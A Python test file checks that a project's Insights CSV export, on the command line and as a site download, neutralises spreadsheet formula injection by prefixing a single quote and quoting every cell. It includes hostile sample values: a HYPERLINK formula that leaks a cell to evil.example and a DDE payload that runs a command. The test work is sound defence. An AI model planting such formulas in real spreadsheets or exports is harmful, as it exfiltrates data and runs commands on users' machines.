"""The Insights CSV against formula injection (issue 24): team names, thread titles and
topics that a spreadsheet would run (tests/cases/hostile/csv) reach `plein insights --csv`
and the site's download as text: a single quote in front, every cell quoted."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
import yaml

from plein.cli import main
from plein.insights.table import cell, to_csv
from test_insights import SMALL, _build
from test_site_build import write_config

CASES = yaml.safe_load((Path(__file__).parent / "cases/hostile/csv/cells.yml").read_text(encoding="utf-8"))
NOW = json.loads((SMALL / "expect.json").read_text(encoding="utf-8"))["now"]
QUOTED_LINE = re.compile(r'^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$')
TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
TITLE = "+1 =cmd|' /C calc'!A0"
TOPICS = ["-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("text, expected", CASES["cells"] + CASES["numbers"])
def test_a_cell_is_escaped_as_owasp_says(text, expected):
    assert cell(text) == expected
    figures = {"teams": {"shown": [{"team": "t", "name": text}]}}
    written = to_csv(figures)
    assert list(csv.reader(io.StringIO(written)))[1] == ["teams.shown", "t", "name", expected]
    assert written.startswith('"section","item","measure","value"\r\n"teams.shown","t","name","')


def all_quoted(text: str) -> bool:
    """Every cell between double quotes (none of these holds a line break)."""
    return all(QUOTED_LINE.match(line) for line in text.split("\r\n")[:-1]) and text.endswith("\r\n")


@pytest.fixture(scope="module")
def hostile_org(tmp_path_factory) -> Path:
    """The insights fixture with a team, a question's title and its topics that are formulas."""
    root = tmp_path_factory.mktemp("hostile-csv") / "org"
    shutil.copytree(SMALL / "org", root)
    team = root / "content/teams/groot.yml"  # five people: shown in the figures
    team.write_text(team.read_text(encoding="utf-8").replace("name: Groot team", f"name: {json.dumps(TEAM)}"),
                    encoding="utf-8")
    question = root / "content/discussions/subsidie/index.md"  # open for more than a week
    question.write_text(question.read_text(encoding="utf-8")
                        .replace("title: Wie kent de subsidieregeling?", f"title: {json.dumps(TITLE)}")
                        .replace("tags: [subsidies]", f"tags: {json.dumps(TOPICS)}"), encoding="utf-8")
    return root


def check(text: str) -> None:
    assert all_quoted(text)
    rows = list(csv.reader(io.StringIO(text)))
    assert ["teams.shown", "groot", "name", "'" + TEAM] in rows
    assert ["open_questions", "subsidie", "title", "'" + TITLE] in rows
    topics = {r[1] for r in rows if r[0] in ("topics", "topic_gaps")}
    assert {"'" + t for t in TOPICS} <= topics
    for row in rows:  # no cell of staff's text starts a formula
        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in row[:3]), row


def test_plein_insights_csv_escapes_staff_text(hostile_org, capsys):
    assert main(["insights", "--csv", "--no-git", "--root", str(hostile_org), "--now", NOW]) == 0
    check(capsys.readouterr().out)


def test_the_sites_csv_download_escapes_staff_text(hostile_org, tmp_path):
    root = tmp_path / "org"
    shutil.copytree(hostile_org, root)
    write_config(root, now=f"{NOW} 12:00")
    site = _build(root)
    check((site / "insights" / "inzicht.csv").read_bytes().decode("utf-8"))
